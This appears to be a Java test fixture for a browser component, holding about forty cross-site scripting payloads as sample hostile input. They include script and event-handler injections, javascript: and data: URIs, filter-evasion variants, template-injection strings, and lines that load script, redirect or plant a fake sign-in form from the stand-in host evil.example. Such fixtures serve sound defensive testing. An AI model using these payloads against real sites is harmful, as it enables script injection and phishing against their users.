package org.warmline.standalone.browser;

import java.util.List;

/** What people type who want our pages to run their program. Each would call {@code alert}, load something, or move the page. */
final class HostileWords {
    static final String PAGE = "javascript:alert(document.domain)//\"><script>alert(1)</script>";
    static final String LOCALE = "\"><img src=x onerror=alert(1)>";

    static final List<String> MESSAGES = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(2)</scr</script>ipt>",
            "<script\u0009type=\"text/javascript\">alert(3)</script >",
            "</textarea><script>alert(4)</script>",
            "</title></style><script>alert(5)</script>",
            "<img src=x onerror=alert(6)>",
            "<img src=\"x\" onerror=\"alert`7`\">",
            "<IMG \"\"\"><SCRIPT>alert(8)</SCRIPT>\">",
            "<img/src=x/onerror=alert(9)>",
            "\"><img src=x onerror=alert(10)>",
            "'><svg/onload=alert(11)>",
            "<svg onload=alert(12)></svg>",
            "<svg><animate onbegin=alert(13) attributeName=x dur=1s></svg>",
            "<svg><a xlink:href=\"javascript:alert(14)\"><text y=20>press</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)></style></mglyph></table></mtext></math>",
            "<body onload=alert(16)>",
            "<iframe src=\"javascript:alert(17)\"></iframe>",
            "<iframe srcdoc=\"<script>parent.alert(18)</script>\"></iframe>",
            "<object data=\"javascript:alert(19)\"></object>",
            "<embed src=\"data:text/html,<script>alert(20)</script>\">",
            "<a href=\"javascript:alert(21)\">your invoice</a>",
            "<a href=\"jav&#x09;ascript:alert(22)\">your invoice</a>",
            "javascript:alert(23)",
            "JaVaScRiPt://%0aalert(24)",
            "data:text/html,<script>alert(25)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgyNik8L3NjcmlwdD4=",
            "vbscript:msgbox(27)",
            "<details open ontoggle=alert(28)>",
            "<input autofocus onfocus=alert(29)>",
            "<video><source onerror=alert(30)></video>",
            "<style>@import 'javascript:alert(31)'; *{display:none}</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
            "<base href=//evil.example/><form action=x><button>Sign in again</button></form>",
            "&lt;script&gt;alert(36)&lt;/script&gt; &#60;img src=x onerror=alert(36)&#62;",
            "\u202Egnp.eciovni\u202C \u2066\u202Ereversed\u2069 \u200Bhidden\uFEFF",
            "${alert(38)} {{constructor.constructor('alert(38)')()}} #{alert(38)} <%= alert(38) %>",
            "`${`${alert(39)}`}` __proto__ constructor [object Object] %s %o %00 \\u003cscript\\u003e",
            "[click](javascript:alert(40)) ![x](x\"onerror=\"alert(40)) \n# not a heading\n- <b>not bold</b>");

    private HostileWords() {}
}
